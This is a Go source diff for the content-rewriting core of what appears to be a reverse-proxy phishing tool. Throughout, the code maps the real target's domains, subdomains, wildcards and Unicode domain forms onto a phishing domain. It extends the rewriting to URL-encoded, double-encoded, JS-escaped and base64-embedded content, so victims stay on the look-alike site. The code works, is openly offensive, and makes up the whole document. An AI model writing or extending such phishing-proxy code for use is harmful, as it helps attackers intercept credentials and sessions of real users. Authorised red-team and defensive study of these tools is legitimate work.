@@ -28,6 +28,40 @@ type Base64 struct {
 	Padding []string
 }
 
+// Direction of a transformation
+type Direction int
+
+const (
+	// Forward transforms the requests, i.e. phishing > target origin
+	Forward Direction = iota
+	// Backward transforms the responses, i.e. target origin > phishing
+	Backward
+)
+
+// TransformContent transforms a body with the given Content-Type as the proxy does,
+// using the base64 rules of the Replacer: protected content is returned untouched
+// and the base64 blobs embedded in the responses are rewritten, if enabled.
+func (r *Replacer) TransformContent(content []byte, direction Direction, contentType string) []byte {
+	if protected.Protects("", contentType) || protected.ProtectsBody(content) {
+		return content
+	}
+
+	forward := direction == Forward
+	body := string(content)
+	if !forward && embedded != nil {
+		body = embedded.Rewrite(body, r.embeddedDomains(), func(value string) string {
+			return r.Transform(value, forward, r.Base64)
+		})
+	}
+	if !forward && modules != nil && isScript(contentType) {
+		body = modules.Rewrite(body, r.embeddedDomains(), func(value string) string {
+			return r.Transform(value, forward, r.Base64)
+		})
+	}
+
+	return []byte(r.Transform(body, forward, r.Base64))
+}
+
 // Transform
 // If used with forward=true, Transform uses Replacer to replace all occurrences of the phishing origin, the external domains defined,
 // as well as the rest of the data to be replaced defined in MakeReplacements(), with the target real origin.
@@ -60,9 +94,10 @@ func (r *Replacer) Transform(input string, forward bool, b64 Base64, repetitions
 		count = repetitions[0]
 	}
 
-	var replacements []string
-	var lastReplacements []string
 	if forward { // used in Requests
+		// nested subdomains of the wildcards are encoded in a single label, they are decoded as they are
+		source = r.patchDeepWildcards(source)
+
 		// if source contains ---XXwld, we need to patch the wildcard
 		wildCardSeparator := r.getCustomWildCardSeparator()
 		if strings.Contains(source, wildCardSeparator) {
@@ -81,41 +116,24 @@ func (r *Replacer) Transform(input string, forward bool, b64 Base64, repetitions
 				log.Verbose("Source after wildcard patching: %s", source)
 			}
 		}
-
-		replacements = r.GetForwardReplacements()
-		lastReplacements = r.GetLastForwardReplacements()
-	} else {
-		// used in Responses
-		replacements = r.GetBackwardReplacements()
-		lastReplacements = r.GetLastBackwardReplacements()
 	}
 
 	// Handling of base64 encoded data which should be decoded before transformation
 	source, base64Found, padding := transformBase64(source, b64, true, Base64Padding)
 
-	if count > 2 {
+	caseInsensitive := count > 2
+	if caseInsensitive {
 		log.Verbose("Too many transformation loops, switch to a case insentive replace:")
-		// Replace transformation
-		var err error
-		result, err = caseInsensitiveReplace(source, replacements)
-		if err != nil {
-			log.Error(err.Error())
-			return
-		}
-
-		// do last replacements
-		result, err = caseInsensitiveReplace(result, lastReplacements)
-		if err != nil {
-			log.Error(err.Error())
-			return
-		}
+	}
 
-	} else {
-		// Replace transformation
-		result = strings.NewReplacer(replacements...).Replace(source)
-		// do last replacements
-		result = strings.NewReplacer(lastReplacements...).Replace(result)
+	// Replace transformation, all the replacements are applied in a single pass
+	var observe func(old, new string)
+	if r.observe != nil {
+		observe = func(old, new string) { r.observe(forward, old, new) }
 	}
+	result = r.getMatcher(matcherKind{forward: forward, caseInsensitive: caseInsensitive}).ReplaceObserved(source, observe)
+	// do last replacements
+	result = r.getMatcher(matcherKind{forward: forward, last: true, caseInsensitive: caseInsensitive}).ReplaceObserved(result, observe)
 
 	// Re-encode if base64 encoded data was found
 	if base64Found {
@@ -188,6 +206,12 @@ func (r *Replacer) Transform(input string, forward bool, b64 Base64, repetitions
 						continue
 					}
 
+					// Nested subdomains are mapped to a single label, without adding any origin
+					if encoded, ok := r.encodeDeepWildcard(element); ok {
+						result = strings.ReplaceAll(result, element, encoded)
+						continue
+					}
+
 					// Patch the wildcard
 					element = strings.ReplaceAll(element, "."+wldPrefix, CustomWildcardSeparator+wldPrefix)
 					rep = append(rep, element)
@@ -206,16 +230,11 @@ func (r *Replacer) Transform(input string, forward bool, b64 Base64, repetitions
 					// Get the patched list of domains and update the replacer
 					patched := r.patchWildcardList(rep)
 					r.SetExternalOrigins(patched)
-					if err := r.DomainMapping(); err != nil {
-						log.Error(err.Error())
-						return
-					}
 
 					if err = r.Save(); err != nil {
 						log.Error("Error saving replacer: %s", err)
 					}
 
-					r.MakeReplacements()
 					count++
 					log.Verbose("We need another (#%d) transformation loop, because of this new domains:%s",
 						count, tui.Green(fmt.Sprintf("%v", rep)))
@@ -260,7 +279,7 @@ func extractURLsFromHTML(htmlContent string) []string {
 }
 
 func (r *Replacer) PatchComposedWildcardURL(URL string) (result string) {
-	result = URL
+	result = r.patchDeepWildcards(URL)
 
 	wldPrefix := fmt.Sprintf("%s%s", r.ExternalOriginPrefix, WildcardLabel)
 	if strings.Contains(result, CustomWildcardSeparator+wldPrefix) {
@@ -301,10 +320,6 @@ func (r *Replacer) PatchComposedWildcardURL(URL string) (result string) {
 			domain = strings.Split(domain, "://")[1]
 		}
 		r.SetExternalOrigins([]string{domain})
-		if err := r.DomainMapping(); err != nil {
-			log.Error(err.Error())
-			return
-		}
 
 		// origins := r.GetOrigins()
 		// if sub, ok := origins[domain]; ok {
@@ -315,8 +330,6 @@ func (r *Replacer) PatchComposedWildcardURL(URL string) (result string) {
 			log.Error("Error saving replacer: %s", err)
 		}
 
-		r.MakeReplacements()
-
 		result = fmt.Sprintf("%s%s%s", protocol, domain, path)
 	}
 
@@ -490,27 +503,44 @@ func (r *Replacer) patchWildcard(rep string) (prep string) {
 	return prep
 }
 
-// MakeReplacements prepares the forward and backward replacements to be used in the proxy
+// MakeReplacements prepares the forward and backward replacements to be used in the proxy.
+// The replacements are published at once, so that the requests never see a partial set.
 func (r *Replacer) MakeReplacements() {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
+	r.makeReplacements()
+	r.publish()
+}
+
+// makeReplacements prepares the forward and backward replacements, with the lock held
+func (r *Replacer) makeReplacements() {
 
 	//
 	// Requests
 	//
-	origins := r.GetOrigins()
+	origins, wildcards := r.Origins, r.WildcardMapping
 
-	r.SetForwardReplacements([]string{})
-	r.SetForwardReplacements(append(r.ForwardReplacements, []string{r.Phishing, r.Target}...))
+	forward := []string{r.Phishing, r.Target}
+
+	// Internationalized domains can also be found in their Unicode form
+	unicodePhishing, unicodeTarget := core.DomainToUnicode(r.Phishing), core.DomainToUnicode(r.Target)
+	if unicodePhishing != r.Phishing {
+		forward = append(forward, unicodePhishing, unicodeTarget)
+	}
 
 	// Add the SubdomainMap to the forward replacements
 	for _, sub := range r.SubdomainMap {
-		from := fmt.Sprintf("%s.%s", sub, r.Phishing)
-		to := fmt.Sprintf("%s.%s", sub, r.Target)
-		rep := []string{from, to}
-		r.SetForwardReplacements(append(r.ForwardReplacements, rep...))
+		if len(sub) != 2 {
+			continue
+		}
+		from := fmt.Sprintf("%s.%s", sub[0], r.Phishing)
+		to := fmt.Sprintf("%s.%s", sub[1], r.Target)
+		forward = append(forward, from, to)
 	}
 
 	log.Verbose("[Forward | Origins]: %d", len(origins))
-	count := len(r.ForwardReplacements)
+	count := len(forward)
 	for extOrigin, subMapping := range origins { // changes resource-1.phishing.
 
 		if strings.HasPrefix(subMapping, WildcardLabel) {
@@ -521,47 +551,55 @@ func (r *Replacer) MakeReplacements() {
 
 		from := fmt.Sprintf("%s.%s", subMapping, r.Phishing)
 		to := extOrigin
-		rep := []string{from, to}
-		r.SetForwardReplacements(append(r.ForwardReplacements, rep...))
+		forward = append(forward, from, to)
 
 		count++
-		log.Verbose("[Forward | replacements #%d]: %s > %s", count, tui.Yellow(rep[0]), tui.Green(to))
+		log.Verbose("[Forward | replacements #%d]: %s > %s", count, tui.Yellow(from), tui.Green(to))
 	}
 
 	// Append wildcards at the end
-	r.SetForwardWildcardReplacements([]string{})
-	for extOrigin, subMapping := range r.GetWildcardMapping() {
+	var forwardWildcard []string
+	for extOrigin, subMapping := range wildcards {
 		from := fmt.Sprintf("%s.%s", subMapping, r.Phishing)
 		to := extOrigin
-		rep := []string{from, to}
-		r.SetForwardWildcardReplacements(append(r.ForwardWildcardReplacements, rep...))
+		forwardWildcard = append(forwardWildcard, from, to)
 
 		count++
-		log.Verbose("[Wild Forward | replacements #%d]: %s > %s", count, tui.Yellow(rep[0]), tui.Green(to))
+		log.Verbose("[Wild Forward | replacements #%d]: %s > %s", count, tui.Yellow(from), tui.Green(to))
 	}
 
 	//
 	// Responses
 	//
-	r.SetBackwardReplacements([]string{})
+	var backward []string
 
 	//
 	// Dirty fix for the case when the Victim domain is a subdomain of the Phishing domain:
 	// e.g. phishing.com and no-phishing.com
 	//
 	// Define potential boundaries around the domain
-	boundaries := []string{" ", ",", ".", ":", "/", "(", ")", "!", "'", "\"", ";", "<", ">", "\n", "\t"}
+	boundaries := []string{" ", ",", ".", ":", "/", "(", ")", "!", "'", "\"", ";", "<", ">", "\n", "\t", "=", "@", "`", "\\"}
+	boundaries = append(boundaries, encodedBoundaries...)
 	targetVariations, phishingVariations := createVariations(r.Target, r.Phishing, boundaries)
 	for i, variation := range targetVariations {
-		r.SetBackwardReplacements(append(r.BackwardReplacements, []string{variation, phishingVariations[i]}...))
+		backward = append(backward, variation, phishingVariations[i])
+	}
+
+	if unicodeTarget != r.Target {
+		targetVariations, phishingVariations = createVariations(unicodeTarget, unicodePhishing, boundaries)
+		for i, variation := range targetVariations {
+			backward = append(backward, variation, phishingVariations[i])
+		}
 	}
 
 	// Add the SubdomainMap to the backward replacements
 	for _, sub := range r.SubdomainMap {
-		from := fmt.Sprintf("%s.%s", sub, r.Target)
-		to := fmt.Sprintf("%s.%s", sub, r.Phishing)
-		rep := []string{from, to}
-		r.SetBackwardReplacements(append(r.BackwardReplacements, rep...))
+		if len(sub) != 2 {
+			continue
+		}
+		from := fmt.Sprintf("%s.%s", sub[1], r.Target)
+		to := fmt.Sprintf("%s.%s", sub[0], r.Phishing)
+		backward = append(backward, from, to)
 	}
 
 	count = 0
@@ -575,35 +613,51 @@ func (r *Replacer) MakeReplacements() {
 
 		from := include
 		to := fmt.Sprintf("%s.%s", subMapping, r.Phishing)
-		rep := []string{from, to}
-		r.SetBackwardReplacements(append(r.BackwardReplacements, rep...))
+		backward = append(backward, from, to)
+		if unicode := core.DomainToUnicode(include); unicode != include {
+			backward = append(backward, unicode, to)
+		}
 
 		count++
-		log.Verbose("[Backward | replacements #%d]: %s < %s", count, tui.Green(rep[0]), tui.Yellow(to))
+		log.Verbose("[Backward | replacements #%d]: %s < %s", count, tui.Green(from), tui.Yellow(to))
 	}
 
 	// Append wildcards at the end
-	r.SetBackwardWildcardReplacements([]string{})
-	for include, subMapping := range r.GetWildcardMapping() {
+	var backwardWildcard []string
+	for include, subMapping := range wildcards {
 		from := include
 		to := fmt.Sprintf("%s.%s", subMapping, r.Phishing)
-		rep := []string{from, to}
-		r.SetBackwardWildcardReplacements(append(r.BackwardWildcardReplacements, rep...))
+		backwardWildcard = append(backwardWildcard, from, to)
+		if unicode := core.DomainToUnicode(include); unicode != include {
+			backwardWildcard = append(backwardWildcard, unicode, to)
+		}
 		count++
-		log.Verbose("[Wild Backward | replacements #%d]: %s < %s", count, tui.Green(rep[0]), tui.Yellow(to))
+		log.Verbose("[Wild Backward | replacements #%d]: %s < %s", count, tui.Green(from), tui.Yellow(to))
 	}
 
 	// These should be done as Final replacements
-	r.SetLastBackwardReplacements([]string{})
+	lastBackward := append([]string{}, backward...)
 
 	// CustomContent HTTP response replacements
 	for _, tr := range r.CustomResponseTransformations {
-		r.SetLastBackwardReplacements(append(r.LastBackwardReplacements, tr...))
+		lastBackward = append(lastBackward, tr...)
 		log.Verbose("[CustomContent Replacements] %+v", tr)
 	}
 
-	r.SetLastBackwardReplacements(append(r.BackwardReplacements, r.LastBackwardReplacements...))
+	r.ForwardReplacements = forward
+	r.ForwardWildcardReplacements = forwardWildcard
+	r.BackwardReplacements = backward
+	r.BackwardWildcardReplacements = backwardWildcard
+	r.LastBackwardReplacements = lastBackward
+	r.appended = 0
+}
 
+// encodedBoundaries are the boundaries of a domain embedded in URL-encoded, double URL-encoded, JS-escaped
+// or JSON-escaped content, i.e. https%3A%2F%2Ftarget.tld, https%253A%252F%252Ftarget.tld or https:\u002F\u002Ftarget.tld
+var encodedBoundaries = []string{
+	"%2F", "%2f", "%3A", "%3a", "%40", "%3D", "%3d", "%20", "%22", "%27",
+	"%252F", "%252f", "%253A", "%253a", "%2540", "%253D", "%253d",
+	"\\u002F", "\\u002f", "\\x2F", "\\x2f", "\\u0022", "\\u0027", "\\u003D", "\\u003d", "\\u0040",
 }
 
 // createVariations generates all possible variations of the target and phishing strings with boundaries
@@ -619,23 +673,29 @@ func createVariations(target, phishing string, boundaries []string) ([]string, [
 	return targetVariations, phishingVariations
 }
 
+// DomainMapping maps the external origins to the subdomains of the phishing domain.
+// The mapping is published at once, so that the transformations never see it half built.
 func (r *Replacer) DomainMapping() (err error) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
+	r.mapDomains()
+	r.publish()
+	return
+}
+
+// mapDomains maps the external origins to the subdomains of the phishing domain, with the lock held
+func (r *Replacer) mapDomains() {
 	baseDom := r.Target
 	// log.Debug("Proxy destination: %s", tui.Bold(tui.Green("*."+baseDom)))
 
-	origins := make(map[string]string)
-	r.WildcardMapping = make(map[string]string)
-
+	origins, wildcardMapping, wildcardDomain := make(map[string]string), make(map[string]string), ""
 	count, wildcards := 0, 0
-	for _, domain := range r.GetExternalOrigins() {
-		if IsSubdomain(baseDom, domain) {
-			trim := strings.TrimSuffix(domain, baseDom)
-
-			// We don't map 1-level subdomains ..
-			if strings.Count(trim, ".") < 2 {
-				log.Verbose("Ignore: %s [%s]", domain, trim)
-				continue
-			}
+	for _, domain := range r.ExternalOrigin {
+		// We don't map 1-level subdomains ..
+		if !r.mappable(domain) {
+			log.Verbose("Ignore: %s [%s]", domain, strings.TrimSuffix(domain, baseDom))
+			continue
 		}
 
 		if isWildcard(domain) {
@@ -648,8 +708,8 @@ func (r *Replacer) DomainMapping() (err error) {
 			// Update the wildcard map
 			prefix := fmt.Sprintf("%s%s", r.ExternalOriginPrefix, WildcardLabel)
 			o := fmt.Sprintf("%s%d", prefix, wildcards)
-			r.SetWildcardDomain(o)
-			r.SetWildcardMapping(domain, o)
+			wildcardDomain = o
+			wildcardMapping[domain] = o
 			// log.Debug(fmt.Sprintf("*.%s=%s", domain, o))
 
 		} else {
@@ -666,7 +726,16 @@ func (r *Replacer) DomainMapping() (err error) {
 		Wildcards = true
 	}
 
-	r.SetOrigins(origins)
+	if r.Origins == nil {
+		r.Origins = make(map[string]string)
+	}
+	for k, v := range origins {
+		r.Origins[strings.ToLower(k)] = v
+	}
+	if wildcards > 0 {
+		r.WildcardDomain = wildcardDomain
+	}
+	r.WildcardMapping = wildcardMapping
+	r.domainsMapped, r.mapped, r.wildcards = true, count, wildcards
 	// log.Verbose("Processed %d domains to transform, %d are wildcards", count, wildcards)
-	return
 }